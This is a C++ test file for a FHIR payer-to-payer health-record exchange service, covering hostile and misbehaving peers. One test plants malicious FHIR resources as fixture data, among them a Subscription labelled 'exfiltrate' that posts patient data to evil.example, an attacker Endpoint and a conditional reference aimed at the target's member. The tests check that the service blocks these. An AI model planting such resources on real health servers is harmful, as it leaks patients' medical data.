// Issue #9: the exchange trusts nothing it receives. The source payer is an outside organisation
// (planted resource types, references that would resolve on the target, looping paging); the target
// may answer 200 without storing anything. Real peers in their hostile and misbehaving modes
// (tests/peers/README.md: plant, loop-next, misbehave).
#include <set>

#include "exchange_fixture.hpp"

using nlohmann::json;
using namespace p2p::test;
using namespace std::chrono_literals;

namespace {

class RootEndpointTest : public ExchangeTest {
 protected:
  RootEndpointTest() {
    source_path_ = "/";
    target_path_ = "/";
  }
};

}  // namespace

// (1) Boost.URL 1.81 turned a base path "/" into "/./": every job for a source at a server's root was
// refused with 400. The target at a root too.
TEST_F(RootEndpointTest, ASourceAndATargetServedAtTheServersRootExchangeEverything) {
  ASSERT_EQ(source_base().find("/fhir"), std::string::npos) << source_base();
  seed_source("r1", 50);  // 53 resources: 2 pages of 40
  auto& service = start_service();
  const auto done = wait_for_end(service, start_job(service, issue_tokens("r1"), "r1"));
  ASSERT_EQ(done["batchStatus"], "COMPLETED") << done.dump() << service.log();
  EXPECT_EQ(done["pagesCompleted"], 2);
  EXPECT_EQ(done["resourcesWritten"], 52);
  EXPECT_EQ(target_resources("Observation").size(), 50u);
  const auto task = parse(http_get(target_base() + "/Task/p2p-batch-job-" + std::to_string(done["batchJobId"].get<long long>())));
  EXPECT_EQ(task["status"], "completed");
}

// (2) + (3): what a hostile source plants on its $everything page.
TEST_F(ExchangeTest, PlantedResourcesThatWouldActOnTheTargetAreSkippedAndCountedAndReferencesNeverResolveThere) {
  seed_source("h1", 3);
  // The new payer's own member, whom a conditional reference from the source tries to reach.
  const auto own = http_request("PUT", target_base() + "/Patient/own-555", {kFhirJson},
                                json({{"resourceType", "Patient"}, {"id", "own-555"},
                                      {"identifier", {{{"system", "urn:target-member-id"}, {"value", "555"}}}}})
                                    .dump());
  ASSERT_EQ(own.status / 100, 2) << own.body;
  const json planted = json::parse(R"([
    {"resourceType":"Subscription","id":"s1","status":"requested","reason":"exfiltrate","criteria":"Patient?",
     "channel":{"type":"rest-hook","endpoint":"https://evil.example/hook","payload":"application/fhir+json"}},
    {"resourceType":"Task","id":"t1","status":"requested","intent":"order",
     "code":{"coding":[{"system":"http://payer-to-payer-exchange/CodeSystem/p2p-internal-codes","code":"p2p-request-add-provider-id"}]},
     "input":[{"type":{"text":"requester-email"},"valueString":"victim@example.com"}]},
    {"resourceType":"SearchParameter","id":"sp1","url":"http://evil.example/sp","name":"x","status":"active",
     "description":"x","code":"x","base":["Patient"],"type":"token","expression":"Patient.id"},
    {"resourceType":"CodeSystem","id":"cs1","status":"active","content":"complete"},
    {"resourceType":"CodeSystem","id":"cs2","status":"active","content":"complete"},
    {"resourceType":"Endpoint","id":"ep1","status":"active","connectionType":{"code":"hl7-fhir-rest"},
     "payloadType":[{"text":"any"}],"address":"https://evil.example/fhir"},
    {"resourceType":"Observation","id":"h1-planted","status":"final","code":{"text":"planted"},
     "subject":{"reference":"Patient?identifier=urn:target-member-id|555"},
     "performer":[{"reference":"Patient/own-555"}],
     "hasMember":[{"reference":"Observation/h1-o0"}]},
    {"resourceType":"DocumentReference","id":"h1-doc","status":"current","subject":{"reference":"Patient/h1"},
     "content":[{"attachment":{"contentType":"text/plain","url":"Binary/h1-bin"}}]},
    {"resourceType":"Binary","id":"h1-bin","contentType":"text/plain","data":"aGVsbG8="}
  ])");
  control(origin(source_base()), "plant", {{"resources", planted}, {"match", "/$everything"}, {"page", 1}});

  auto& service = start_service();
  const auto id = start_job(service, issue_tokens("h1"), "h1");
  const auto done = wait_for_end(service, id);
  ASSERT_EQ(done["batchStatus"], "COMPLETED") << done.dump() << service.log();
  EXPECT_EQ(done["resourcesSkipped"],
            json({{"CodeSystem", 2}, {"Endpoint", 1}, {"SearchParameter", 1}, {"Subscription", 1}, {"Task", 1}}));
  EXPECT_EQ(done["resourcesWritten"], 5 + 3) << "Encounter, 3 Observations, the source's Provenance, and the planted "
                                               "Observation, DocumentReference and Binary";

  // Nothing that acts on the target reached it; the only Task is the exchange's own.
  for (const char* type : {"Subscription", "SearchParameter", "CodeSystem", "Endpoint"}) {
    EXPECT_TRUE(target_resources(type).empty()) << type;
  }
  const auto tasks = target_resources("Task");
  ASSERT_EQ(tasks.size(), 1u);
  EXPECT_EQ(tasks[0]["id"], "p2p-batch-job-" + std::to_string(id));
  std::map<std::string, int> skipped_outputs;
  for (const auto& output : tasks[0]["output"]) {
    const std::string text = output["type"]["text"];
    if (text.starts_with("resources skipped: ")) skipped_outputs[text.substr(19)] = output["valueInteger"];
  }
  EXPECT_EQ(skipped_outputs, (std::map<std::string, int>{{"CodeSystem", 2}, {"Endpoint", 1}, {"SearchParameter", 1},
                                                         {"Subscription", 1}, {"Task", 1}}));
  EXPECT_EQ(validate_on_target(tasks[0])["valid"], true);
  EXPECT_TRUE(service.wait_for_log("job " + std::to_string(id) + ": the source sent 1 resource(s) of type Subscription, "
                                   "which is not exchanged"));
  const auto log = service.log();
  EXPECT_EQ(log.find("type CodeSystem"), log.rfind("type CodeSystem")) << "logged once per type per job";

  // The conditional reference did not attach the source's Observation to the target's own member.
  const auto observation = parse(http_get(target_base() + "/Observation/" + target_id("Observation", "h1-planted")));
  EXPECT_FALSE(observation["subject"].contains("reference")) << observation.dump();
  EXPECT_EQ(observation["subject"]["display"], "Patient?identifier=urn:target-member-id|555 (not copied: a conditional "
                                               "reference would resolve against the new payer's data)");
  EXPECT_EQ(observation["performer"][0]["reference"], "Patient/" + target_id("Patient", "own-555"))
      << "a relative reference is the source's resource, never the target's own-555";
  EXPECT_EQ(observation["hasMember"][0]["reference"], "Observation/" + target_id("Observation", "h1-o0"));
  EXPECT_EQ(validate_on_target(observation)["valid"], true);
  // The document's attachment points at the copied Binary, not at whatever Binary/h1-bin is on the target.
  const auto document = parse(http_get(target_base() + "/DocumentReference/" + target_id("DocumentReference", "h1-doc")));
  EXPECT_EQ(document["content"][0]["attachment"]["url"], "Binary/" + target_id("Binary", "h1-bin"));
  EXPECT_EQ(http_get(target_base() + "/Binary/" + target_id("Binary", "h1-bin")).status, 200);
}

// (4): a target that answers 200 (or 202) without storing the page.
class MisbehavingTargetTest : public ExchangeTest, public ::testing::WithParamInterface<std::pair<std::string, std::string>> {};

TEST_P(MisbehavingTargetTest, NothingIsCountedAsWrittenThatTheTargetDidNotStore) {
  const auto& [mode, said] = GetParam();
  seed_source("w1", 5);
  control(origin(target_base()), "misbehave", {{"mode", mode}, {"count", 100}, {"method", "POST"}});
  auto& service = start_service({}, {{"maxAttempts", 2}});
  const auto done = wait_for_end(service, start_job(service, issue_tokens("w1"), "w1"));
  EXPECT_EQ(done["batchStatus"], "FAILED") << done.dump();
  EXPECT_EQ(done["pagesCompleted"], 0);
  EXPECT_EQ(done["resourcesWritten"], 0);
  EXPECT_EQ(done["lastError"], "the target FHIR server did not store page 1: " + said) << done.dump();
  EXPECT_TRUE(target_resources("Observation").empty());
  const auto task = parse(http_get(target_base() + "/Task/p2p-batch-job-" + std::to_string(done["batchJobId"].get<long long>())));
  EXPECT_EQ(task["status"], "failed") << "the Task PUTs were not misbehaved: the portal learns why";
}

INSTANTIATE_TEST_SUITE_P(
    Modes, MisbehavingTargetTest,
    ::testing::Values(
        std::pair<std::string, std::string>{"html200", "the target answered 200 with a body that is not JSON (text/html; "
                                                       "charset=utf-8; a gateway or login page?) instead of a "
                                                       "transaction-response"},
        std::pair<std::string, std::string>{"accepted202", "the target answered 202 with an empty body instead of 200 "
                                                           "with a transaction-response"},
        std::pair<std::string, std::string>{"batch-errors", "the target answered 200 with a Bundle of type batch-response "
                                                            "instead of a transaction-response"},
        std::pair<std::string, std::string>{"short-response", "the target's transaction-response has 4 entries for the 8 sent"},
        std::pair<std::string, std::string>{"wrong-type", "the target answered 200 with a OperationOutcome instead of a "
                                                          "transaction-response"}),
    [](const auto& param_info) {
      std::string name;
      for (const char c : param_info.param.first) if (std::isalnum(static_cast<unsigned char>(c))) name += c;
      return name;
    });

TEST_F(ExchangeTest, AnAnswerThatDidNotStoreThePageIsRetriedAndThePageWrittenOnce) {
  seed_source("w2", 5);
  control(origin(target_base()), "misbehave", {{"mode", "short-response"}, {"count", 1}, {"method", "POST"}});
  auto& service = start_service();
  const auto done = wait_for_end(service, start_job(service, issue_tokens("w2"), "w2"));
  ASSERT_EQ(done["batchStatus"], "COMPLETED") << done.dump() << service.log();
  EXPECT_EQ(done["resourcesWritten"], 7);
  EXPECT_EQ(target_resources("Observation").size(), 5u);
  EXPECT_TRUE(service.wait_for_log("page 1 not stored by the target (attempt 1 of 8): the target's transaction-response "
                                   "has 4 entries for the 8 sent"));
}

// (10): paging that never ends.
TEST_F(ExchangeTest, ANextLinkBackToAPageAlreadyReadFailsTheJob) {
  seed_source("p1", 100);  // 3 pages of 40
  // Page 2's next link is page 2 itself (as buggy offset paging does).
  control(origin(source_base()), "loop-next", {{"match", "/$everything"}, {"onPage", 2}, {"toPage", 2}});
  auto& service = start_service();
  const auto done = wait_for_end(service, start_job(service, issue_tokens("p1"), "p1"));
  EXPECT_EQ(done["batchStatus"], "FAILED") << done.dump();
  EXPECT_EQ(done["pagesCompleted"], 1) << "page 2 is refused before it is written";
  const std::string error = done["lastError"];
  EXPECT_EQ(error, "stopped following the source's paging: the next link of page 2 points back to a page already read (" +
                       source_base() + "/Patient/p1/$everything); the source's paging loops");
}

TEST_F(ExchangeTest, MoreThanMaxPagesFailsTheJob) {
  seed_source("p2", 100);  // 3 pages of 40
  auto& service = start_service({}, {{"maxPages", 2}});
  const auto done = wait_for_end(service, start_job(service, issue_tokens("p2"), "p2"));
  EXPECT_EQ(done["batchStatus"], "FAILED") << done.dump();
  EXPECT_EQ(done["pagesCompleted"], 2);
  EXPECT_EQ(done["lastError"], "the source sent more than 2 pages (exchange.maxPages); a member's records should not "
                               "need that many: check the source's paging, or raise exchange.maxPages");
}

// (8a): refresh tokens rotate. A refresh whose answer is lost (the source rotated the token, then the
// connection dropped) must not be sent again: the token is spent, and with reuse detection the
// source would revoke the member's whole grant.
TEST_F(ExchangeTest, ARefreshWhoseAnswerIsLostIsNotSentAgainAndTheJobSaysWhy) {
  seed_source("k1", 5);
  auto& service = start_service();
  const auto tokens = issue_tokens("k1");
  http_request("POST", issuer() + "/__control/expire-access", {kJson}, json({{"access_token", tokens["access_token"]}}).dump());
  control(issuer(), "drop-next-token-response", {{"count", 1}, {"grant", "refresh_token"}});
  const auto done = wait_for_end(service, start_job(service, tokens, "k1"));
  EXPECT_EQ(done["batchStatus"], "FAILED") << done.dump() << service.log();
  const std::string error = done.value("lastError", "");
  EXPECT_TRUE(error.starts_with("the answer to the refresh of the member's tokens was lost (")) << error;
  EXPECT_TRUE(error.ends_with("); the source payer may have rotated the refresh token already, so it is not sent "
                              "again: the member must sign in at the source payer again"))
      << error;
  const auto stats = parse(http_get(issuer() + "/__control/token-stats"));
  EXPECT_EQ(stats["byGrantType"]["refresh_token"], 1) << "sent once, never replayed: " << stats.dump();
  EXPECT_EQ(stats["dropped"], 1) << stats.dump();
  EXPECT_EQ(stats["refreshTokenReused"], 0) << "the spent token was never presented again: " << stats.dump();
}

// (5): networks fail for minutes. An outage pauses the job (tokens kept, lastError says why, still
// STARTED) and it resumes by itself; it fails only after exchange.outageToleranceSeconds without
// progress. The outages here last seconds, with the retry budget scaled down to match (maxAttempts 2,
// pauses of maxBackoffSeconds = 2 s): the mechanism is the same as for the minutes the issue names.
namespace {

const json kFastPauses = {{"maxAttempts", 2}, {"initialBackoffMilliseconds", 50}, {"maxBackoffSeconds", 2}};

}  // namespace

TEST_F(ExchangeTest, ASourceOutageBeforeAndA503MidJobPauseTheJobWhichThenWritesEveryResourceOnce) {
  seed_source("o1", 100);  // 3 pages of 40
  auto& service = start_service({}, kFastPauses);
  // Refused connections while the job starts, then page 2 answered 503 twice (one pause's worth).
  control(origin(source_base()), "fail-next", {{"status", 503}, {"count", 2}, {"match", "_offset=40"}});
  control(origin(source_base()), "outage", {{"seconds", 6}});
  const auto id = start_job(service, issue_tokens("o1"), "o1");
  json paused;
  ASSERT_TRUE(eventually([&] {
    paused = job(service, id);
    return paused.value("lastError", json()).is_string();
  }, 30s)) << paused.dump();
  EXPECT_EQ(paused["batchStatus"], "STARTED");
  EXPECT_TRUE(paused["lastError"].get<std::string>().starts_with("paused: cannot read from the source payer at " +
                                                                 source_base() + "/Patient/o1/$everything: "))
      << paused.dump();
  EXPECT_EQ(exec_scalar(database_.url(), "SELECT count(*) FROM batch_jobs WHERE access_token_sealed IS NOT NULL"), "1")
      << "a paused job keeps the member's tokens";

  const auto done = wait_for_end(service, id, 120s);
  ASSERT_EQ(done["batchStatus"], "COMPLETED") << done.dump() << service.log();
  EXPECT_EQ(done["pagesCompleted"], 3);
  EXPECT_EQ(done["resourcesWritten"], 102);
  EXPECT_EQ(done["lastError"], nullptr);
  EXPECT_EQ(target_resources("Observation").size(), 100u) << "every resource, once";
  EXPECT_TRUE(service.wait_for_log("paused: the source payer answered 503 for " + source_base() +
                                   "/Patient/o1/$everything: Injected failure (HTTP 503)"));
  EXPECT_EQ(refreshes_seen(issuer()), 0) << "the access token never expired: no refresh";
}

TEST_F(ExchangeTest, ATargetOutageBeforeAndA503MidJobPauseTheJobWhichThenWritesEveryResourceOnce) {
  seed_source("o2", 100);
  auto& service = start_service({}, kFastPauses);
  control(origin(target_base()), "fail-next", {{"status", 503}, {"count", 2}, {"method", "POST"}});
  control(origin(target_base()), "outage", {{"seconds", 6}});
  const auto id = start_job(service, issue_tokens("o2"), "o2");
  const auto done = wait_for_end(service, id, 120s);
  ASSERT_EQ(done["batchStatus"], "COMPLETED") << done.dump() << service.log();
  EXPECT_EQ(done["resourcesWritten"], 102);
  EXPECT_EQ(target_resources("Observation").size(), 100u);
  EXPECT_TRUE(service.wait_for_log("paused: cannot write the tracking Task to the target FHIR server: "));
  EXPECT_TRUE(service.wait_for_log("paused: the target FHIR server refused page 1 (503): Injected failure (HTTP 503)"));
  const auto task = parse(http_get(target_base() + "/Task/p2p-batch-job-" + std::to_string(id)));
  EXPECT_EQ(task["status"], "completed");
  EXPECT_EQ(refreshes_seen(issuer()), 0);
}

TEST_F(ExchangeTest, AnOutageLongerThanTheToleranceFailsTheJobSayingSo) {
  seed_source("o3", 5);
  json exchange = kFastPauses;
  exchange["maxBackoffSeconds"] = 1;
  exchange["outageToleranceSeconds"] = 3;
  auto& service = start_service({}, exchange);
  control(origin(source_base()), "fail-next", {{"status", 503}, {"count", 1000}, {"match", "$everything"}});
  const auto done = wait_for_end(service, start_job(service, issue_tokens("o3"), "o3"), 60s);
  EXPECT_EQ(done["batchStatus"], "FAILED") << done.dump();
  const std::string error = done.value("lastError", "");
  EXPECT_TRUE(error.starts_with("the source payer answered 503 for " + source_base() +
                                "/Patient/o3/$everything: Injected failure (HTTP 503); no progress for "))
      << error;
  EXPECT_TRUE(error.ends_with(" s, more than exchange.outageToleranceSeconds (3 s)")) << error;
  EXPECT_EQ(exec_scalar(database_.url(), "SELECT count(*) FROM batch_jobs WHERE access_token_sealed IS NOT NULL"), "0")
      << "an ended job holds no tokens";
}

// (8c): a portal's double submit, or its retry after a lost 202, must not start a second job that
// shares the member's rotating refresh token.
TEST_F(ExchangeTest, ASecondJobForTheSameMemberIsRefusedAndAnIdempotencyKeyGivesBackTheFirst) {
  auto& service = start_service();
  const json tokens = issue_tokens("d1");
  const json body = {{"sourcePayer", {{"oidcToken", tokens["access_token"]}, {"oidcRefreshToken", tokens["refresh_token"]},
                                      {"patientId", "d1"}}},
                     {"targetPayer", {{"patientId", "t-d1"}}}};
  // Paused at the source (503s), so the first job stays active while the others are posted.
  control(origin(source_base()), "fail-next", {{"status", 503}, {"count", 1000}});
  const std::string url = service.url("/api/oidc_servers/1/batch_job");
  const auto keyed = [&](const std::string& key, const json& payload) {
    return http_request("POST", url, {kAuthHeader, kJson, "Idempotency-Key: " + key}, payload.dump());
  };
  const auto first = keyed("portal-7f3a", body);
  ASSERT_EQ(first.status, 202) << first.body;
  const long long id = parse(first)["batchJobId"];
  const std::string location = "/api/oidc_servers/1/batch_job/" + std::to_string(id);

  const auto replay = keyed("portal-7f3a", body);
  EXPECT_EQ(replay.status, 200) << replay.body;
  EXPECT_EQ(parse(replay)["batchJobId"], id);
  EXPECT_EQ(replay.header("location"), location);

  json changed = body;
  changed["targetPayer"]["organizationId"] = "OTHER";
  const auto reused = keyed("portal-7f3a", changed);
  EXPECT_EQ(reused.status, 422) << reused.body;
  EXPECT_EQ(parse(reused)["detail"], "this Idempotency-Key was used within the last 24 hours for another request body "
                                     "(batch job " + std::to_string(id) + "); use a new key for a new request");

  const auto second = post_job(service, body);
  EXPECT_EQ(second.status, 409) << second.body;
  EXPECT_EQ(second.header("location"), location);
  EXPECT_EQ(parse(second)["detail"],
            "the member already has an exchange from this source payer to this target patient that has not ended: "
            "batch job " + std::to_string(id) + " (" + location + "); poll it, or cancel it before starting another "
            "(two jobs would share the member's refresh token, and the first refresh would break the other)");
  EXPECT_EQ(keyed(std::string(256, 'k'), body).status, 400) << "a key over 255 characters is refused";
  EXPECT_EQ(keyed("two words", body).status, 400) << "only visible ASCII";
  EXPECT_EQ(exec_scalar(database_.url(), "SELECT count(*) FROM batch_jobs"), "1");

  // Once it has ended, the member may start again.
  ASSERT_EQ(http_request("POST", service.url(location + "/cancel"), {kAuthHeader}).status / 100, 2);
  const auto stopped = wait_for_end(service, id);
  EXPECT_EQ(stopped["batchStatus"], "STOPPED");
  EXPECT_EQ(post_job(service, body).status, 202);
}

// (11): what the source says about its results (OperationOutcome entries, e.g. truncation) is kept.
TEST_F(ExchangeTest, TheSourcesOperationOutcomesBecomeWarningsAndAnErrorKeepsTheJobFromCompleting) {
  seed_source("w3", 5);
  seed_source("w4", 5);
  const json warning = {{"resourceType", "OperationOutcome"}, {"id", "oo-w"},
                        {"issue", {{{"severity", "warning"}, {"code", "too-costly"},
                                    {"diagnostics", "too many resources; results truncated"}}}}};
  const json error = {{"resourceType", "OperationOutcome"}, {"id", "oo-e"},
                      {"issue", {{{"severity", "error"}, {"code", "processing"},
                                  {"details", {{"text", "Claim history unavailable"}}}}}}};
  control(origin(source_base()), "plant", {{"resources", {warning}}, {"match", "/Patient/w3/$everything"}});
  control(origin(source_base()), "plant", {{"resources", {error}}, {"match", "/Patient/w4/$everything"}});
  auto& service = start_service();
  const auto warned = wait_for_end(service, start_job(service, issue_tokens("w3"), "w3"));
  EXPECT_EQ(warned["batchStatus"], "COMPLETED") << warned.dump();
  EXPECT_EQ(warned["warnings"], json::array({"warning: too many resources; results truncated"}));
  const auto task = parse(http_get(target_base() + "/Task/p2p-batch-job-" + std::to_string(warned["batchJobId"].get<long long>())));
  bool in_task = false;
  for (const auto& output : task["output"]) {
    in_task = in_task || (output["type"]["text"] == "source warning" &&
                          output["valueString"] == "warning: too many resources; results truncated");
  }
  EXPECT_TRUE(in_task) << task.dump();

  const auto failed = wait_for_end(service, start_job(service, issue_tokens("w4"), "w4"));
  EXPECT_EQ(failed["batchStatus"], "FAILED") << failed.dump();
  EXPECT_EQ(failed["lastError"], "the source reported that its results are not complete (error: Claim history "
                                 "unavailable); every page it sent was written; see warnings");
  EXPECT_EQ(failed["resourcesWritten"], 7) << "what the source did send is on the target";
  EXPECT_EQ(failed["warnings"], json::array({"error: Claim history unavailable"}));
}

// The next page is fetched and transformed while the current one is written. A next page the service
// cannot take (here nested deeper than any FHIR Bundle is) fails the job only when the job comes to
// it: the page before it is written and recorded first, and nothing of the unreadable page is.
TEST_F(ExchangeTest, AnUnreadableNextPageFailsTheJobAfterThePageBeforeItIsWrittenAndRecorded) {
  seed_source("n1", 60);  // 63 resources: 2 pages of 40
  json nested = {{"url", "http://example.org/deep"}, {"valueString", "bottom"}};
  for (int level = 0; level < 150; ++level) {  // two JSON levels each: deeper than 256
    nested = {{"url", "http://example.org/deep"}, {"extension", json::array({nested})}};
  }
  control(origin(source_base()), "plant",
          {{"match", "/$everything"}, {"page", 2},
           {"resources", json::array({{{"resourceType", "Basic"}, {"id", "deep"}, {"code", {{"text", "deep"}}},
                                       {"extension", json::array({nested})}}})}});
  auto& service = start_service();
  const auto done = wait_for_end(service, start_job(service, issue_tokens("n1"), "n1"));
  EXPECT_EQ(done["batchStatus"], "FAILED") << done.dump();
  EXPECT_EQ(done["pagesCompleted"], 1) << done.dump();
  EXPECT_EQ(done["lastError"], "the source's page is nested more than 256 levels deep; it is not a FHIR Bundle this "
                               "service can take") << done.dump();
  // Page 1 is on the target, and counted; nothing of page 2 is.
  const auto written = target_resources("Patient").size() + target_resources("Encounter").size() +
                       target_resources("Observation").size();
  EXPECT_GE(written, 38u);
  EXPECT_LT(written, 63u);
  EXPECT_EQ(done["resourcesWritten"], written) << done.dump();
  EXPECT_TRUE(target_resources("Basic").empty());
}
